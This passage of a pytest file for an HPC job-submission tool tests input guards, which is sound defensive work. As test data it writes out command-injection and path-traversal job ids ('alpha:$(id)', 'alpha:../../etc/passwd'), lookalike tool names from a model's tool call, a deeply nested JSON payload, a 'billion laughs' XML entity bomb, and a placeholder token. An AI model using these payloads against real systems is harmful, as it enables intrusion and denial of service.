    pass 100,000, after parsing; PyYAML's pure-Python reader takes about 20 s for 40,000)."""
    import time

    from diamond_jupyter.config import load_config

    p = tmp_path / "sites.yaml"
    p.write_text("sites:\n" + "".join(f"  - {{name: s{i}}}\n" for i in range(1_000_000)))
    p.chmod(0o600)
    t0 = time.monotonic()
    with pytest.raises(BadInput, match=r"is larger than 4 MB: not a sites file"):
        load_config(p)
    assert time.monotonic() - t0 < 5


@pytest.mark.parametrize("job", ["alpha:$(id)", "alpha:../../etc/passwd", "alpha:1;id",
                                 "alpha:-1", "alpha:1\u200b"])
async def test_a_job_id_a_face_gives_with_shell_or_path_syntax_is_unknown(tmp_path, job):
    """(guard) A job id given to `status`, `logs`, `cancel` (a cell, a REST path, a tool
    call) with shell or path syntax, a leading dash or an invisible character: an unknown
    job (BadInput), never a command or a path on the site."""
    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises(BadInput):
            await fed.cancel(job)
        with pytest.raises(BadInput):
            await fed.logs(job)
    finally:
        await fed.close()


@pytest.mark.parametrize("tool", ["subm\u0456t", "submit\u200b", "SUBMIT", "__proto__"])
async def test_a_tool_named_like_another_is_an_unknown_tool(tmp_path, tool):
    """(guard) A model's (or an MCP client's) call of `submіt` (a Cyrillic і), `submit`
    with a zero-width space, another case, `__proto__`: an unknown tool; nothing runs."""
    from diamond_jupyter.skills import SkillContext, run_skill

    fed = _rooted_fed(tmp_path)
    try:
        with pytest.raises(BadInput, match="unknown"):
            await run_skill(SkillContext(fed, approval="auto"), tool,
                            {"script": "#!/bin/bash\ntrue\n", "site": "here"})
        assert fed.jobs() == []
    finally:
        await fed.close()


# -- 9. a scheduler's JSON nested past reading --------------------------------------------------

DEEP = "[" * 100_000 + "]" * 100_000


def test_another_users_pbs_job_value_nested_past_reading_spoils_only_its_own_record():
    """PBS Pro's `qstat -F json` prints a job's name (or `-v` value) with its raw quotes:
    another user's job named `x","z":[[[[...]]]],"y":"` (100,000 brackets) made the listing
    nest past what json reads; RecursionError escaped the dialect (no SiteError), so the
    site's whole queue could not be read and the poll failed with "maximum recursion
    depth exceeded". Now it is a SiteError like any listing that does not read, and the
    listing is read job by job: every other job kept."""
    from diamond_jupyter.dialects.pbs_commands import PbsCommands

    name = 'x","z":' + DEEP + ',"y":"'
    out = ('{\n    "timestamp":1,\n    "pbs_version":"2022.1",\n    "pbs_server":"srv",\n'
           '    "Jobs":{\n        "1.srv":{\n            "Job_Name":"mine",\n'
           '            "job_state":"R"\n        },\n        "2.srv":{\n'
           f'            "Job_Name":"{name}",\n            "job_state":"Q"\n        }}\n'
           '    }\n}\n')
    got = {j.native_id: j for j in PbsCommands().parse_status(out)}
    assert got["1.srv"].state.value == "RUNNING"
    assert "2.srv" in got  # read whole as its own text, or kept as UNKNOWN saying why


@pytest.mark.parametrize("dialect", ["flux", "lsf", "slurm"])
def test_a_json_queue_nested_past_reading_is_a_site_error(dialect):
    """A scheduler (or what stands in for it on the login node) answering JSON nested
    100,000 deep: RecursionError escaped `flux jobs --json`, `bjobs -json` and `squeue
    --json`'s readers; now a SiteError naming the command, as any unreadable answer."""
    from diamond_jupyter.dialects.flux_commands import FluxCommands
    from diamond_jupyter.dialects.lsf_commands import LsfCommands
    from diamond_jupyter.dialects.slurm_commands import SlurmCommands
    from diamond_jupyter.model import SiteError

    cmds = {"flux": FluxCommands, "lsf": LsfCommands, "slurm": SlurmCommands}[dialect]()
    parse = cmds.parse_status_json if dialect == "slurm" else cmds.parse_status
    with pytest.raises(SiteError, match="nested too deeply"):
        parse('{"jobs": ' + DEEP + "}")


def test_a_slurmrestd_answer_nested_past_reading_is_a_site_error():
    """The same from slurmrestd (a REST answer): SiteError, not RecursionError."""
    from diamond_jupyter.dialects.slurm_rest import parse_jobs
    from diamond_jupyter.model import SiteError

    with pytest.raises(SiteError, match="not JSON"):
        parse_jobs('{"jobs": ' + DEEP + "}")


@pytest.mark.parametrize("flavor", ["sge", "torque"])
def test_an_xml_answer_with_expanding_entities_is_refused_bounded(flavor):
    """(guard) Grid Engine's `qstat -xml` or Torque's `qstat -x` answering a "billion laughs"
    document (entities that expand a thousand-millionfold, a job's name among them):
    refused by the XML reader's amplification limit, a SiteError, in well under a second of CPU."""
    import time

    from diamond_jupyter.dialects.pbs_commands import PbsCommands
    from diamond_jupyter.dialects.sge_commands import SgeCommands
    from diamond_jupyter.model import SiteError

    ents = '<!ENTITY l0 "lol">' + "".join(
        f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
    name = "<JB_name>&l9;</JB_name>" if flavor == "sge" else "<Job_Name>&l9;</Job_Name>"
    body = (f"<job_info><queue_info><job_list state='running'><JB_job_number>1"
            f"</JB_job_number>{name}<state>r</state></job_list></queue_info></job_info>"
            if flavor == "sge" else
            f"<Data><Job><Job_Id>1.srv</Job_Id>{name}<job_state>R</job_state></Job></Data>")
    doc = f'<?xml version="1.0"?><!DOCTYPE d [{ents}]>{body}'
    cmds = SgeCommands() if flavor == "sge" else PbsCommands(flavor="torque")
    # CPU time, not wall time: a busy machine stretches the latter, not the work done
    t0 = time.process_time()
    with pytest.raises(SiteError, match="amplification"):
        cmds.parse_status(doc)
    assert time.process_time() - t0 < 5


def test_no_log_line_takes_its_format_from_what_it_logs():
    """(guard) Names a job, a site or a user chose (`%s%n`, `%(x)s`) reach the logs: each
    logging call's format is a literal (an f-string only without arguments), so such a name
    is never read as a format (a "Logging error", or another argument shown in its place)."""
    import ast

    import diamond_jupyter

    bad = []
    for path in Path(diamond_jupyter.__file__).parent.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(), str(path))):
            if not (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                    and node.func.attr in ("debug", "info", "warning", "error", "exception",
                                           "critical")
                    and isinstance(node.func.value, ast.Name)
                    and node.func.value.id in ("log", "logger", "logging")) or not node.args:
                continue
            fmt = node.args[0]
            literal = isinstance(fmt, ast.Constant) and isinstance(fmt.value, str)
            if not literal and not (isinstance(fmt, ast.JoinedStr) and len(node.args) == 1):
                bad.append(f"{path.name}:{node.lineno}")
    assert bad == []


SECRET_PY = textwrap.dedent("""\
    name: secret
    queue_ahead: false
    steps:
      - {name: prep, site: alpha, script: "#!/bin/bash\\necho 1 > out.bin\\n"}
      - name: train
        site: alpha
        needs: [prep]
        inputs: [{from: prep, path: out.bin}]
        script: "#!/usr/bin/env python3\\nTOKEN = 'ghp_aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa'\\n"
    """)


async def test_an_approved_step_holding_a_secret_runs_with_its_approved_engine_lines(
        wf_engine):
    """(the engine-lines pin, with a secret) A Python step's engine lines show its whole
    script (bash runs the input lines, then the body): the store keeps the workflow with
    the secret redacted, so lines made from that copy differed from the approved ones and
    the step waited for ever. They are made from the step as it runs (unsealed)."""
    from diamond_jupyter.workflow.model import load_workflow

    eng, ops = wf_engine
    wf = load_workflow(SECRET_PY, sites=("alpha", "beta", "gamma"))
    wid = await eng.run(wf, approval=ops.pins(wf, {"prep": ["alpha"], "train": ["alpha"]}))
    assert "ghp_" not in json.dumps(ops.store.get_workflow(wid).spec)  # (kept redacted)
    await _prep_done(eng, ops, wid)
    assert [s["step"] for s in ops.submits] == ["prep", "train"], \
        ops.store.get_workflow(wid).step("train").reason
